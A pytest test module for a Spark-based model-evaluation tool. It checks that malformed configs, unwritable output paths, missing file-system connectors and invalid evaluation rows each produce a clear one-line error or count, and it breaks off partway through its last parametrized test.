"""Bad input against the evaluate job (issue 12's battery): each case ends in a one-line error naming what was
expected and how to fix it, a status or a count, never a traceback, a silent wrong number or lost rows.

docs/bad-input.md lists what the user sees for each input; a test below pins each line of it.
"""
from __future__ import annotations

import dataclasses
import os
import re
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from pydantic import ValidationError

from ctcalc_spark import InputError
from ctcalc_spark.config import (
    ColumnsConfig,
    ConfigError,
    InputConfig,
    JobConfig,
    OutputConfig,
    SparkConfig,
    SplitConfig,
    apply_overrides,
    config_from_dict,
    read_yaml,
)
from ctcalc_spark.core.findings import ROW_REASONS
from ctcalc_spark.jobs.evaluate import NO_DATE, evaluate
from ctcalc_spark.spark.scan import NULL_SLICE
from ctcalc_spark.tables import OutputStore
from tests._rows import DS, binary_eval_rows, multiclass_logits, write_eval

N = 400


def _rows(**kw) -> pd.DataFrame:
    return binary_eval_rows(n=N, models=("a",), runs=(0,), **kw)


def _write_files(path, frames):
    """One Parquet file per frame under path/ds=DS (names f0, f1, ...), types exactly as given."""
    folder = path / f"ds={DS}"
    folder.mkdir(parents=True)
    for i, frame in enumerate(frames):
        pq.write_table(pa.Table.from_pandas(frame.drop(columns="ds"), preserve_index=False), folder / f"f{i}.parquet")
    return folder


# ---- configuration ------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("key", "value", "messages"), [
    # the key path, the value given and its type, then the fix (pydantic's own words between them are not pinned)
    ("split.bias_fraction", "abc", ("'split.bias_fraction' got 'abc' (str): ", "Give a number in (0, 1).")),
    ("split.bias_fraction", 0, ("'split.bias_fraction' got 0 (int): ", "Give a number in (0, 1).")),
    ("rolling.bias_threshold", "abc", ("'rolling.bias_threshold' got 'abc' (str): ", "Write numbers like 0.1, 1e-9")),
    ("histogram.bin_width", [0.1], ("'histogram.bin_width' got [0.1] (list): ", "Finer bins cost memory")),
    ("spark.shuffle_partitions", "abc", ("'spark.shuffle_partitions' got 'abc' (str): ", "Give a whole number >= 1.")),
    ("spark.shuffle_partitions", 2.5, ("'spark.shuffle_partitions' got 2.5 (float): ", "Give a whole number >= 1.")),
    ("spark.shuffle_partitions", 0, ("'spark.shuffle_partitions' got 0 (int): ", "Give a whole number >= 1.")),
    ("max_bias_rows_multiclass", "abc", ("'max_bias_rows_multiclass' got 'abc' (str): ", "Write a whole number.")),
    ("spark.driver_memory", "lots", ("'spark.driver_memory' got 'lots' (str): ", "a JVM memory size like '2g'")),
    ("spark.conf", ["a"], ("'spark.conf' got ['a'] (list): ", "Write a mapping of settings, each one value")),
    ("spark.conf", {"spark.x": {"y": 1}}, ("'spark.conf.spark.x' got {'y': 1} (dict): ", "each one value")),
    ("on_invalid", True, ("'on_invalid' got True (bool): ", "Give one of 'error', 'drop'.")),
    ("output.storage_options", {"region": ["a"]}, ("'output.storage_options.region' got ['a'] (list): ",)),
    ("output.compression", "fast", ("'output.compression' must be one of ['none', 'uncompressed', 'snappy',",)),
    ("input.skip_unreadable_files", "yes", ("'input.skip_unreadable_files' got 'yes' (str): ", "Write true or false.")),
    ("columns.slices", "country", ("'columns.slices' got 'country' (str): ",
                                   "Write a list: [country] (YAML) or --set columns.slices=[country].")),
    ("histogram.bin_width", "1e-9", ("'histogram.bin_width' got '1e-9' (str): ", "Give a number in [0.0001, 0.5]. "
                                                                                 "Finer bins cost memory")),
    ("spark.master", "foo", ("'spark.master' must be a Spark master URL: local, local[N]",)),
    ("spark.log_level", "LOUD", ("'spark.log_level': Log level must be one of ['ALL'",)),
    ("spark.conf", {"spark.sql.shuffle.partitions": "abc"},
     ("'spark.conf.spark.sql.shuffle.partitions' must be an integer >= 1, got 'abc'",)),
    ("spark.conf", {"spark.driver.memory": "zz"}, ("'spark.conf.spark.driver.memory' must be a JVM memory size",)),
    # several folders as a list: the glob that reads them (it said only to quote the value)
    ("input.path", ["a", "b"], ("'input.path' got ['a', 'b'] (list): ", "It is one path (a file, a folder or a glob): "
                                "for several folders give a glob that matches them, e.g. "
                                "'/data/{exports_a,exports_b}'")),
    ("stream.path", ["a", "b"], ("got ['a', 'b'] (list): ", "A stream watches one folder: land every file there.")),
])
def test_config_values_of_the_wrong_type_name_the_key_the_value_and_the_fix(tmp_path, key, value, messages):
    config = tmp_path / "c.yaml"
    config.write_text("input: {path: x}\n")
    with pytest.raises(ConfigError) as err:
        config_from_dict(read_yaml(config, {key: value}))
    for message in messages:
        assert message in str(err.value)


def _constrained_keys(schema: dict, node: dict, path: tuple = ()):
    """(key path, a value outside its choices or limits) for every field of a config's JSON schema that has some."""
    for name, prop in node.get("properties", {}).items():
        options = [prop, *prop.get("anyOf", [])]
        refs = [o["$ref"].rsplit("/", 1)[-1] for o in options if "$ref" in o]
        if refs:
            yield from _constrained_keys(schema, schema["$defs"][refs[0]], (*path, name))
            continue
        rules = {k: v for o in options for k, v in o.items()}
        low = rules.get("exclusiveMinimum", rules.get("gt"))
        high = rules.get("exclusiveMaximum", rules.get("lt"))
        bad = ("no such choice" if "enum" in rules or "const" in rules
               else low if low is not None else rules["minimum"] - 1 if "minimum" in rules
               else rules["ge"] - 1 if "ge" in rules else high if high is not None
               else rules["maximum"] * 2 if "maximum" in rules else rules["le"] * 2 if "le" in rules
               else "" if rules.get("minLength") else "xx" if "maxLength" in rules else [] if "minItems" in rules
               else "!" if "pattern" in rules else None)
        if bad is not None:
            yield ".".join((*path, name)), bad


def _configs():
    from ctcalc_spark.paper.experiment import ExperimentConfig, experiment_config_from_dict
    from ctcalc_spark.upstream.config import UpstreamConfig, upstream_config_from_dict

    return [(JobConfig, config_from_dict), (UpstreamConfig, upstream_config_from_dict),
            (ExperimentConfig, experiment_config_from_dict)]


def test_every_field_with_choices_or_limits_names_the_key_and_a_fix_for_a_value_outside_them():
    """A new constrained field without a fix fails here: the message goes on after pydantic's own words."""
    from pydantic import TypeAdapter

    checked = 0
    for cls, from_dict in _configs():
        adapter = TypeAdapter(cls)
        for key, bad in _constrained_keys(adapter.json_schema(), adapter.json_schema()):
            data = apply_overrides({}, {key: bad})
            with pytest.raises(ValidationError) as problem:
                adapter.validate_python(data)
            with pytest.raises(ConfigError) as err:
                from_dict(data)
            said, words = str(err.value), problem.value.errors()[0]["msg"]
            assert said.startswith(f"'{key}' got {bad!r} "), said
            assert said.split(f"{words}.", 1)[1].strip(), f"{key}: no fix in {said!r}"
            checked += 1
    assert checked >= 20


@pytest.mark.parametrize(("build", "key"), [
    (lambda: SplitConfig(bias_fraction=0), "SplitConfig.bias_fraction"),
    (lambda: dataclasses.replace(JobConfig(), clip_eps=1), "JobConfig.clip_eps"),
    (lambda: dataclasses.replace(JobConfig(), task="binary_classification"), "JobConfig.task"),
    (lambda: SparkConfig(shuffle_partitions="many"), "SparkConfig.shuffle_partitions"),
    (lambda: InputConfig(skip_unreadable_files=0), "InputConfig.skip_unreadable_files"),  # == False, not a bool
])
def test_a_config_built_in_python_is_checked_as_a_yaml_file_is(build, key):
    with pytest.raises(ConfigError, match=rf"^'{key}' got .*\. (Give|Write) "):
        build()


def test_a_config_built_in_python_takes_the_checked_values_and_stays_frozen():
    cfg = JobConfig(columns=ColumnsConfig(run=None, slices=["country"]), spark=SparkConfig(conf={"x": True}))
    assert cfg.columns.slices == ("country",) and cfg.spark.conf == {"x": "true"}
    assert cfg.columns.one_run and dataclasses.replace(cfg.columns, slices=()).one_run
    assert dataclasses.asdict(cfg)["split"] == {"bias_fraction": 0.1, "salt": "ctcalc", "min_bias_rows": 0}
    with pytest.raises(dataclasses.FrozenInstanceError):
        cfg.task = "regression"  # type: ignore[misc]


def test_outputs_inside_an_input_folder_read_whole_are_refused(spark, demo_config, tmp_path):
    """An input folder without <ds>=<day> folders is read whole: outputs inside it would be read back as
    evaluation rows. Inside a folder of day folders they are not read, and stay allowed."""
    flat = tmp_path / "flat"
    flat.mkdir()
    _rows().to_parquet(flat / "rows.parquet", index=False)
    for output in (flat / "out", flat):
        with pytest.raises(ConfigError, match=r"'output.path' .* is inside 'input.path' .*, which is read whole "
                                              r"\(it has no <ds>=<day> folders\): the job would read its own"):
            evaluate(spark, demo_config(input__path=str(flat), output__path=str(output)), DS)
    assert not (flat / "out").exists()
    write_eval(_rows(), tmp_path / "days")
    done = evaluate(spark, demo_config(input__path=str(tmp_path / "days"), output__path=str(tmp_path / "days" / "o")),
                    DS)
    assert done.days == [DS] and OutputStore(OutputConfig(path=str(tmp_path / "days" / "o"))).days("metrics") == [DS]


def test_an_output_path_that_cannot_be_a_folder_is_refused_before_the_scan(spark, demo_config, tmp_path):
    write_eval(_rows(), tmp_path / "eval")
    (tmp_path / "file.txt").write_text("not a folder")
    cfg = demo_config(output__path=str(tmp_path / "file.txt" / "out"))
    with pytest.raises(ConfigError, match=r"^output.path '.*/file.txt/out' cannot hold the outputs: '.*/file.txt' is a "
                                          r"file, not a folder, so the job would fail in its first write. Set "
                                          r"output.path to a folder this job can create"):
        evaluate(spark, cfg, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))


def test_an_output_folder_that_cannot_be_written_is_refused_before_the_scan(spark, demo_config, tmp_path,
                                                                          read_only_folder):
    """A read-only output folder (a share mounted read-only, another user's folder) was found in the first write,
    after the whole scan: `failed: OSError: [Errno 30] Cannot create directory '/mnt/ro/out'`."""
    write_eval(_rows(), tmp_path / "eval")
    cfg = demo_config(output__path=str(read_only_folder() / "out"))
    with pytest.raises(ConfigError, match=r"^output.path '.*/ro0/out' cannot hold the outputs: '.*/ro0' is (on a "
                                          r"read-only file system|not writable by this user), so the job would fail "
                                          r"in its first write. Set output.path to a folder this job can create"):
        evaluate(spark, cfg, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))


def test_an_output_folder_of_another_tables_files_is_refused_before_the_scan(spark, demo_config, tmp_path):
    """output.path pointed at a folder whose 'metrics' held another tool's Parquet file: the job wrote its ds=
    partitions beside it, so every reader of the folder read both. Now refused before the scan, nothing written;
    ctcalc's own (Delta) tables pass, and a rerun there works. A table folder in ctcalc's earlier layout
    (Parquet ds= folders, no Delta log) is named as such, with the command that converts it."""
    write_eval(_rows(), tmp_path / "eval")
    out = tmp_path / "out"
    (out / "metrics").mkdir(parents=True)
    pd.DataFrame({"a": [1]}).to_parquet(out / "metrics" / "part-0.parquet")
    cfg = demo_config(output__path=str(out))
    with pytest.raises(ConfigError, match=r"^output.path '.*/out' has a 'metrics' folder that is not a Delta table "
                                          r"\(it holds 'part-0.parquet'\)\. Set output.path to a new folder, or move it "
                                          r"aside\.$"):
        evaluate(spark, cfg, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))
    assert sorted(os.listdir(out)) == ["metrics"] and os.listdir(out / "metrics") == ["part-0.parquet"]
    (out / "metrics" / "part-0.parquet").unlink()
    first = evaluate(spark, cfg, DS).metrics
    pd.testing.assert_frame_equal(evaluate(spark, cfg, DS).metrics, first)
    # a table of ctcalc's earlier layout (Parquet partition folders without a Delta log): named, with the way on
    (out / "rolling" / "window_spec=day" / f"ds={DS}").mkdir(parents=True)
    with pytest.raises(ConfigError, match=r"^output.path '.*/out' holds the 'rolling' table in ctcalc's earlier "
                                          r"layout \(Parquet partition folders without a Delta log\)\. Convert the "
                                          r"output once with `ctcalc tables convert --set output.path=.*/out`"):
        evaluate(spark, cfg, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))


def test_two_tasks_in_one_output_are_refused_and_a_mixed_table_is_named(spark, demo_config, tmp_path):
    """A regression config pointed at a binary config's output.path replaced the binary day with regression
    rows, and binary rolling / compare then stopped with 'internal error … Summary labels must be 0/1'. The
    write is now refused before the scan; a table mixed that way earlier is named with its days on reading."""
    from deltalake import DeltaTable, write_deltalake
    from pyarrow.fs import LocalFileSystem, SubTreeFileSystem

    from ctcalc_spark.jobs.compare import rolling_comparison
    from ctcalc_spark.jobs.rolling import run_rolling

    days = ["2026-11-20", DS]
    rows = pd.concat([binary_eval_rows(n=2000, seed=i, ds=d) for i, d in enumerate(days)], ignore_index=True)
    write_eval(rows.assign(prediction=rows["logit"]), tmp_path / "eval")
    out = tmp_path / "out"
    binary = demo_config(output__path=str(out))
    regression = demo_config(task="regression", output__path=str(out), columns={"logit": None,
                                                                              "prediction": "prediction"})
    evaluate(spark, binary, days[0])
    before = sorted(p.relative_to(out) for p in out.rglob("*"))  # Delta logs too: not one file written
    with pytest.raises(ConfigError, match=r"^The metrics table '.*/out/metrics' holds binary outputs, and this job's "
                                          r"task is regression: .* Give each task its own output"):
        evaluate(spark, regression, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))
    assert sorted(p.relative_to(out) for p in out.rglob("*")) == before
    # a table mixed before this check: the other task's day is named, not 'a bug'
    evaluate(spark, demo_config(task="regression", output__path=str(tmp_path / "reg"),
                                columns={"logit": None, "prediction": "prediction"}), DS)
    for table in ("metrics", "summaries"):  # the regression day's rows committed into the binary tables as they are
        where = str(tmp_path / "reg" / table)  # Arrow's own local file system: see tables._read_delta
        rows = DeltaTable(where).to_pyarrow_table(filters=[("ds", "=", DS)],
                                                  filesystem=SubTreeFileSystem(where, LocalFileSystem()))
        write_deltalake(str(out / table), rows, mode="overwrite", predicate=f"ds = '{DS}'", partition_by=["ds"],
                        schema_mode="merge")
    message = rf"The summaries of ds={DS} under '.*/out/summaries' are not binary summaries \(no 'bin' values\): a " \
              r"regression job wrote those days into this output\."
    with pytest.raises(InputError, match=message):
        run_rolling(spark, binary, days)
    with pytest.raises(InputError, match=message):
        rolling_comparison(binary, "a", "b", days[0], DS)
    # an output of the other task only: most likely the config's task is the slip (it was told to evaluate again)
    with pytest.raises(InputError, match=rf"The summaries of ds={DS} under '.*/reg/summaries' are regression "
                                         r"summaries, and this config's task is binary: if they are the outputs you "
                                         r"mean, set task: regression"):
        rolling_comparison(demo_config(output__path=str(tmp_path / "reg")), "a", "b", DS, DS)


def test_compare_over_days_with_model_and_run_columns_of_other_names(spark, demo_config, tmp_path):
    """columns.model: pipeline, columns.run: seed (the summaries keep those names): `ctcalc compare --ds-from
    --ds-to` stopped with 'internal error … No match for FieldRef.Name(model)'. Its per-run metrics now equal
    those of the same rows under the default names, exactly."""
    from ctcalc_spark.jobs.compare import run_metrics

    days = ["2026-11-20", DS]
    rows = pd.concat([binary_eval_rows(n=2000, seed=i, ds=d) for i, d in enumerate(days)], ignore_index=True)
    write_eval(rows, tmp_path / "plain")
    write_eval(rows.rename(columns={"model": "pipeline", "run": "seed"}), tmp_path / "named")
    got = {}
    for name, columns in (("plain", {}), ("named", {"model": "pipeline", "run": "seed"})):
        cfg = demo_config(input__path=str(tmp_path / name), output__path=str(tmp_path / f"out_{name}"),
                          columns=columns)
        evaluate(spark, cfg, f"{days[0]}..{DS}")
        got[name] = run_metrics(cfg, ["a", "b"], days)
    assert len(got["plain"]) == 4 and (got["plain"]["status"] == "ok").all()
    pd.testing.assert_frame_equal(got["named"], got["plain"])


@pytest.mark.parametrize(("where", "uri", "message"), [
    # used to be "Cannot read the evaluation table 's3a://…': An error occurred while calling o62.load." after a
    # logged Java stack
    ("input", "s3a://bucket/eval", r"^Spark has no file system for s3a:// here \(class org\.apache\.hadoop\.fs\.s3a\."
                                   r"S3AFileSystem not found\), so it cannot open 's3a://bucket/eval'\. Put hadoop-aws "
                                   r"on Spark's class path: set spark\.conf: \{spark\.jars\.packages: 'org\.apache\."
                                   r"hadoop:hadoop-aws:\d+\.\d+\.\d+'\}"),
    ("input", "s3://bucket/eval", r"no FileSystem for scheme \"s3\".*Open-source Spark reads S3 as s3a://: write "
                                  r"s3a://bucket/eval"),
])
def test_a_path_spark_has_no_file_system_for_names_the_connector_before_the_scan(spark, demo_config, tmp_path, where,
                                                                                  uri, message):
    write_eval(_rows(), tmp_path / "eval")
    cfg = demo_config(**{f"{where}__path": uri})
    with pytest.raises(ConfigError, match=message):
        evaluate(spark, cfg, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))


def test_an_output_store_that_cannot_be_reached_is_named_before_the_scan(spark, demo_config, tmp_path):
    """Path outputs are written by deltalake, not Spark: an object-store output.path it cannot reach (here gs://
    without credentials) used to fail in the first write, after the whole scan; it must stop before the scan
    with one line naming the path and the settings that reach it."""
    write_eval(_rows(), tmp_path / "eval")
    cfg = demo_config(output__path="gs://bucket/out")
    with pytest.raises(ConfigError, match=r"'gs://bucket/out/\w+'.*output\.storage_options"):
        evaluate(spark, cfg, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))


def test_connector_errors_are_told_from_other_failures():
    from ctcalc_spark.spark.connectors import connector_error

    assert connector_error('java.io.IOException: No space left on device') is None
    assert "abfss://" in connector_error("Caused by: java.lang.ClassNotFoundException: Class "
                                         "org.apache.hadoop.fs.azurebfs.SecureAzureBlobFileSystem not found")
    line = connector_error('org.apache.hadoop.fs.UnsupportedFileSystemException: No FileSystem for scheme "hdfs2"',
                           "hdfs2://nn/x")
    assert line.startswith("Spark has no file system for hdfs2:// here") and "spark.jars" in line


def test_numbers_written_with_an_exponent_are_numbers(tmp_path):
    config = tmp_path / "c.yaml"
    # YAML 1.1 reads 1e-9 (no dot) as a string: each of these used to end in "'<' not supported between ..."
    config.write_text("input: {path: x}\nclip_eps: 1e-9\nsplit: {bias_fraction: 1e-1}\nhistogram: {bin_width: 1e-3}\n"
                      "max_bias_rows_multiclass: 1e6\nspark: {shuffle_partitions: '8', conf: {a.b: true, c: 2}}\n")
    cfg = config_from_dict(read_yaml(config))
    assert (cfg.clip_eps, cfg.split.bias_fraction, cfg.histogram.bin_width) == (1e-9, 0.1, 1e-3)
    assert cfg.max_bias_rows_multiclass == 1_000_000 and cfg.spark.shuffle_partitions == 8
    assert cfg.spark.conf == {"a.b": "true", "c": "2"}


def test_a_path_starting_with_a_tilde_is_in_the_home_folder(tmp_path, monkeypatch):
    """input.path: ~/data/eval was read as a folder named '~' in the working folder, and the drift report wrote
    into such a folder; a leading ~ is now the home folder, as in a shell, in every path key."""
    from ctcalc_spark.upstream.config import load_upstream_config

    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    cfg = config_from_dict({"input": {"path": "~/data/eval"}, "output": {"path": "~"},
                            "stream": {"path": "~/landing", "checkpoint": "~/ck"}})
    home = str(tmp_path / "home")
    assert (cfg.input.path, cfg.output.path) == (f"{home}/data/eval", home)
    assert (cfg.stream.path, cfg.stream.checkpoint) == (f"{home}/landing", f"{home}/ck")
    assert config_from_dict({"input": {"path": "data/~x"}}).input.path == "data/~x"  # only a leading ~
    assert load_upstream_config(None, {"models_dir": "~/models"}).models_dir == f"{home}/models"


def test_set_names_one_key_inside_spark_conf_and_the_other_free_key_sections(tmp_path):
    # `--set spark.conf.spark.sql.shuffle.partitions=8` used to split the Spark setting's name at its dots and stop
    # with "'spark.conf.spark' must be a single value ..., got {'sql': {'shuffle': {'partitions': 8}}}".
    from ctcalc_spark.cli.common import set_overrides
    from ctcalc_spark.config import load_config

    config = tmp_path / "c.yaml"
    config.write_text("input: {path: x, options: {header: 'true'}}\nspark: {conf: {spark.sql.ansi.enabled: 'true'}}\n")
    sets = ["spark.conf.spark.sql.shuffle.partitions=8", "input.options.dateFormat=yyyy.MM.dd",
            "stream.kafka_options.kafka.security.protocol=SASL_SSL", "output.tables.metrics=db.m", "output.database=ct"]
    cfg = load_config(config, set_overrides(sets))
    assert cfg.spark.conf == {"spark.sql.ansi.enabled": "true", "spark.sql.shuffle.partitions": "8"}
    assert cfg.input.options == {"header": "true", "dateFormat": "yyyy.MM.dd"}
    assert cfg.stream.kafka_options == {"kafka.security.protocol": "SASL_SSL"}
    assert cfg.output.tables == {"metrics": "db.m"} and cfg.output.database == "ct"
    with pytest.raises(ConfigError, match="Unknown config key"):  # a section's name itself is not free
        load_config(config, set_overrides(["spark.confx.a=1"]))
    # a glob (an alias to YAML) or a value starting with a character YAML reserves is the text as typed; it was
    # "the value is not valid YAML: while scanning an alias"
    assert set_overrides(["input.options.pathGlobFilter=*.csv", "output.tables.metrics=@x", "a=`b`"]) == {
        "input.options.pathGlobFilter": "*.csv", "output.tables.metrics": "@x", "a": "`b`"}
    with pytest.raises(ConfigError, match=r"--set a=\{b: the value is not valid YAML"):
        set_overrides(["a={b"])
    # a quote character alone, for the CSV reader's escape or quote option: "found unexpected end of stream"
    assert set_overrides(['input.options.escape="', "input.options.quote='"]) == {
        "input.options.escape": '"', "input.options.quote": "'"}
    assert set_overrides(["""a='"'""", "b=\"'\""]) == {"a": '"', "b": "'"}  # quoted in YAML, as before


def test_a_bad_spark_setting_exits_3_with_one_line(tmp_path, capsys):
    from ctcalc_spark.cli.main import main

    config = tmp_path / "c.yaml"
    config.write_text(f"input: {{path: {tmp_path}}}\n")
    code = main(["evaluate", "--config", str(config), "--ds", DS, "--set", "spark.shuffle_partitions=abc"])
    err = capsys.readouterr().err.strip()
    assert code == 3 and "Traceback" not in err and len(err.splitlines()) == 1
    assert "'spark.shuffle_partitions' got 'abc' (str): " in err


@pytest.mark.parametrize(("columns", "message"), [
    ({"slices": ["status"]}, "'columns.slices' names the input column 'status', a name ctcalc gives a computed"),
    ({"slices": ["auc"]}, "'columns.slices' names the input column 'auc'"),
    ({"slices": ["n_rows"]}, "'columns.slices' names the input column 'n_rows'"),
    ({"slices": ["model"]}, "Slice column 'model' is also the model or run column"),
    ({"slices": ["country", "country"]}, "Slice column 'country' is listed twice"),
    ({"model": "status"}, "'columns.model' names the input column 'status'"),
    ({"model": "m", "run": "m"}, "'columns.model' and 'columns.run' must be two different columns"),
    ({"label": ""}, "'columns.label' must be a column name, got ''"),
])
def test_column_names_that_clash_with_computed_columns_are_rejected(columns, message):
    # A slice called 'status' used to come out as slice_value='ok' with status=None, one called 'auc' as
    # slice_value=<the AUC>: the finaliser overwrote the slice value with its own column.
    with pytest.raises(ConfigError) as err:
        config_from_dict({"input": {"path": "x"}, "columns": columns})
    assert message in str(err.value)


# ---- rows ---------------------------------------------------------------------------------------------------

def test_null_model_or_run_is_an_invalid_row_in_both_modes(spark, demo_config, tmp_path):
    df = _rows()
    df["model"] = np.where(df.index == 3, None, df["model"])
    df["run"] = np.where(df.index == 5, None, df["run"].astype(str))
    write_eval(df, tmp_path / "eval")
    with pytest.raises(InputError, match=r"2 rows: null \(or NaN\) in the model or run column"):
        evaluate(spark, demo_config(), DS, write=False)
    result = evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
    m = result.metrics
    assert list(m["model"]) == ["a"] and m.loc[0, "n_rows"] == N - 2 and m.loc[0, "status"] == "ok"
    assert result.uncounted.to_dict("records") == [
        {"ds": DS, "reason": ROW_REASONS[9][1], "n_rows": 2}]


def test_null_slice_value_is_a_slice_of_its_own(spark, demo_config, tmp_path):
    df = _rows()
    df["country"] = np.where(df.index % 4 == 0, None, "DE")
    write_eval(df, tmp_path / "eval")
    m = evaluate(spark, demo_config(columns={"slices": ["country"]}), DS, write=False).metrics
    by = m.set_index("slice_value")["n_rows"].to_dict()
    assert by == {"__all__": N, "DE": N * 3 // 4, NULL_SLICE: N // 4}


def test_null_split_value_names_its_reason_and_count(spark, demo_config, tmp_path):
    df = _rows().assign(split="remain")
    df.loc[:40, "split"] = "bias"
    df.loc[7, "split"] = None
    write_eval(df, tmp_path / "eval")
    # used to say "Invalid evaluation rows for ds=...:  (e.g. ...)": the null split value nulled the group key
    with pytest.raises(InputError, match=r"ds=2026-11-21: 1 rows: null split value or example id \(e\.g\."):
        evaluate(spark, demo_config(columns={"split": "split"}), DS, write=False)


def test_split_values_match_in_any_letter_case(spark, demo_config, tmp_path):
    df = _rows().assign(split="remain")
    df.loc[:40, "split"] = "bias"
    write_eval(df, tmp_path / "eval")
    lower = evaluate(spark, demo_config(columns={"split": "split"}), DS, write=False).metrics
    write_eval(df.assign(split=df["split"].map({"bias": "Bias", "remain": "REMAIN"})), tmp_path / "eval2")
    mixed = evaluate(spark, demo_config(input={"path": str(tmp_path / "eval2")}, columns={"split": "split"}), DS,
                     write=False).metrics
    pd.testing.assert_frame_equal(lower, mixed)
    assert lower.loc[0, "n_bias"] == 41


def test_text_that_is_not_a_number_is_counted_not_a_traceback(spark, demo_config, tmp_path):
    df = _rows(weights=True)
    for name in ("label", "logit", "weight"):
        df[name] = df[name].astype(str)
    df.loc[3, "label"], df.loc[4, "logit"], df.loc[5, "weight"] = "abc", "n/a", "heavy"
    write_eval(df, tmp_path / "eval")
    cfg = dict(columns={"weight": "weight"})
    with pytest.raises(InputError, match="3 rows: text that is not a number in the label, score or weight column"):
        evaluate(spark, demo_config(**cfg), DS, write=False)
    m = evaluate(spark, demo_config(on_invalid="drop", **cfg), DS, write=False).metrics
    assert (m.loc[0, "n_invalid"], m.loc[0, "n_rows"], m.loc[0, "status"]) == (3, N - 3, "ok")


def test_text_that_is_not_a_number_is_shown_and_a_decimal_comma_named(spark, demo_config, tmp_path):
    """A CSV written with decimal commas (0,673585) made every row invalid with no value shown."""
    df = _rows()
    df["logit"] = df["logit"].map(lambda v: f"{v:.6f}".replace(".", ","))
    write_eval(df, tmp_path / "eval")
    with pytest.raises(InputError, match=rf"{N} rows: text that is not a number .* The score column 'logit' holds "
                                         r"text such as '-?\d+,\d{6}': a number written with a decimal comma, which "
                                         r"Spark does not read as a number\. Write the numbers with a decimal point"):
        evaluate(spark, demo_config(), DS, write=False)
    with pytest.raises(InputError, match=rf"Every evaluation row for ds={DS} is invalid \({N} rows in all: {N} rows: "
                                         r"text that is not a number .*\)\. The score column 'logit' holds text such "
                                         r"as '-?\d+,\d{6}': a number written with a decimal comma"):
        evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
    df = _rows(weights=True).astype({"weight": str})
    df.loc[5, "weight"] = "heavy"
    write_eval(df, tmp_path / "eval2")
    with pytest.raises(InputError, match=r"1 rows: text .* The weight column 'weight' holds text such as 'heavy'\.$"):
        evaluate(spark, demo_config(input={"path": str(tmp_path / "eval2")}, columns={"weight": "weight"}), DS,
                 write=False)


def test_a_range_whose_rows_are_all_invalid_names_its_days_and_writes_nothing(spark, demo_config, tmp_path):
    """A range whose rows are all invalid: the scan's aggregate holds no valid row of either day. The error names
    both days, and the output holds no table, no partition and no data file."""
    days = ["2024-03-01", "2024-03-02"]
    df = pd.concat([_rows(seed=i, ds=d) for i, d in enumerate(days)], ignore_index=True)
    df["logit"] = np.nan
    write_eval(df, tmp_path / "eval")
    with pytest.raises(InputError, match=rf"Every evaluation row for ds={days[0]}, {days[1]} is invalid \({2 * N} "
                                         rf"rows in all: {2 * N} rows: NaN or infinite logit"):
        evaluate(spark, demo_config(on_invalid="drop"), f"{days[0]}..{days[1]}")
    out = tmp_path / "out"
    left = [str(p.relative_to(out)) for p in out.rglob("*")] if out.exists() else []
    assert not [p for p in left if "ds=" in p or "_delta_log" in p or p.endswith(".parquet")], left


def test_binary_labels_written_as_boolean_text_are_labels(spark, demo_config, tmp_path):
    """A CSV or JSON read without types gives 'true'/'false' labels as text; they used to be invalid rows
    ('text that is not a number'). Any case, and Spark's other boolean spellings, count as 1/0; other text does
    not. The metrics equal those of the same rows with 0/1 labels, exactly."""
    df = _rows()
    write_eval(df, tmp_path / "numbers")
    spellings = np.array(["false", "true", "FALSE", "True", "0", "1", "no", "yes", "f", "t"])
    text = df.assign(label=spellings[2 * np.arange(len(df)) % 10 + df["label"].to_numpy()])
    write_eval(text, tmp_path / "text")
    numbers = evaluate(spark, demo_config(input__path=str(tmp_path / "numbers")), DS, write=False).metrics
    words = evaluate(spark, demo_config(input__path=str(tmp_path / "text")), DS, write=False).metrics
    pd.testing.assert_frame_equal(words, numbers)
    text.loc[7, "label"] = "maybe"
    write_eval(text, tmp_path / "maybe")
    with pytest.raises(InputError, match="1 rows: text that is not a number in the label, score or weight column"):
        evaluate(spark, demo_config(input__path=str(tmp_path / "maybe")), DS, write=False)


@pytest.mark.parametrize("labels, hint", [
    (lambda y: 0.1 + 0.8 * y, r"The label column 'label' holds fractions \(0\.1 to 0\.9\): soft labels or rates, "
                              r"which the binary metrics do not take\. A row that stands for several events"),
    (lambda y: 2 * y - 1, r"The label column 'label' holds only -1 and 1: two classes coded so, not 0/1\. Set "
                          r"columns\.class_names: \[\"-1\", \"1\"\], the negative class first, or map the labels to "
                          r"0/1 upstream\.$"),
])
def test_labels_other_than_0_and_1_are_named_with_what_to_do(spark, demo_config, tmp_path, labels, hint):
    """Binary labels of 0.1/0.9 (soft labels, rates) or -1/1 stopped the run with 'label not allowed for the task'
    and the 0/1 rule only: the message now says what the labels are and the way on, in both modes (-1/1:
    columns.class_names, which gives the metrics of 0/1 labels exactly). tests/test_findings.py tells the other
    codings apart from the labels' aggregate."""
    df = _rows()
    df["label"] = labels(df["label"].to_numpy()).astype(np.float64)
    write_eval(df, tmp_path / "eval")
    with pytest.raises(InputError, match=r"rows: label not allowed for the task .*" + hint):
        evaluate(spark, demo_config(), DS, write=False)
    if "class_names" in hint:  # the advice works: the metrics of the 0/1 labels, exactly
        write_eval(_rows(), tmp_path / "zero_one")
        want = evaluate(spark, demo_config(input__path=str(tmp_path / "zero_one")), DS, write=False).metrics
        names = sorted(df["label"].unique().astype(int).astype(str), key=int)
        got = evaluate(spark, demo_config(columns={"class_names": names}), DS, write=False).metrics
        pd.testing.assert_frame_equal(got, want)
    if (df["label"].isin([0.0, 1.0])).any():
        return
    with pytest.raises(InputError, match=rf"Every evaluation row for ds={DS} is invalid .*\)\. " + hint):
        evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)


@pytest.mark.parametrize("scores, hint", [
    (lambda z: z, r"The prediction column 'score' holds values from -\S+ to \S+ outside \[0, 1\], negative ones "
                  r"among them: logits \(log-odds\) look like that\. If they are, set columns\.logit: score and "
                  r"columns\.prediction: null\.$"),
])
